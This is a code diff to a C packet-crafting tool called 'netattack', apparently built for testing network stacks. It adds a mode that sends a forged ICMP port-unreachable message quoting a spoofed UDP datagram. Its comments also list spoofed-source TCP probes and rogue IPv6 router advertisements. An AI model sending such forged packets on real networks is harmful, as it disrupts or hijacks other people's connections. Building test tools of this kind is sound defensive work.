@@ -7,6 +7,9 @@
  *       127.0.0.0/8 on lo); SRCIP forges the source ("-": IFACE's own), SPORT fixes the source
  *       port (else a random one). Prints what came back: "synack", "rst",
  *       "data BYTES", "udp BYTES" or "timeout".
+ *   netattack IFACE DSTMAC DSTIP DPORT unreach - TO TPORT
+ *       one ICMP port unreachable from IFACE's address to DSTIP, quoting a UDP datagram from
+ *       DSTIP:DPORT to TO:TPORT (as a host on the way to TO sends it back). Prints "sent".
  *   netattack ra IFACE [DSTMAC]
  *       one IPv6 router advertisement (default router, high preference, lifetime 1800 s, the
  *       autonomous prefix 2001:db8:bad::/64) from IFACE's link-local address to ff02::1, sent
@@ -108,6 +111,7 @@ static int receive(uint8_t proto, uint8_t *buf, int *len, int ms) {
 
 static int advertise(const char *iface, const char *to);
 static int echo6(char **argv);
+static int unreach(const char *to, int tport);
 
 int main(int argc, char **argv) {
     if ((argc == 3 || argc == 4) && strcmp(argv[1], "ra") == 0) return advertise(argv[2], argc == 4 ? argv[3] : NULL);
@@ -133,6 +137,7 @@ int main(int argc, char **argv) {
     sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dstmac[0], &dstmac[1], &dstmac[2], &dstmac[3], &dstmac[4], &dstmac[5]);
     inet_pton(AF_INET, argv[3], &dst);
     dport = atoi(argv[4]);
+    if (argc == 9 && strcmp(argv[5], "unreach") == 0) return unreach(argv[7], atoi(argv[8]));
     sport = argc > 7 ? atoi(argv[7]) : 20000 + rand() % 30000;
     uint8_t buf[2048];
     int len, off;
@@ -176,6 +181,23 @@ int main(int argc, char **argv) {
         send_tcp(iss + 1 + strlen(req), next, 0x10, "", 0);
         if (buf[off + 13] & 0x05) break;
     }
+    return 0;
+}
+
+/* The ICMP error (see the top): dst's datagram dst:dport -> TO:TPORT quoted, its header and 8 bytes. */
+static int unreach(const char *to, int tport) {
+    uint8_t m[8 + 28] = {3, 3};
+    uint8_t *in = m + 8;
+    in[0] = 0x45; in[3] = 28 + 13; in[8] = 64; in[9] = 17;
+    memcpy(in + 12, &dst, 4);
+    if (inet_pton(AF_INET, to, in + 16) != 1) return 2;
+    uint16_t c = csum(in, 20, 0); memcpy(in + 10, &c, 2);
+    uint16_t v = htons(dport); memcpy(in + 20, &v, 2);
+    v = htons(tport); memcpy(in + 22, &v, 2);
+    v = htons(8 + 13); memcpy(in + 24, &v, 2);
+    c = csum(m, sizeof m, 0); memcpy(m + 2, &c, 2);
+    send_ip(1, m, sizeof m);
+    printf("sent\n");
     return 0;
 }
 
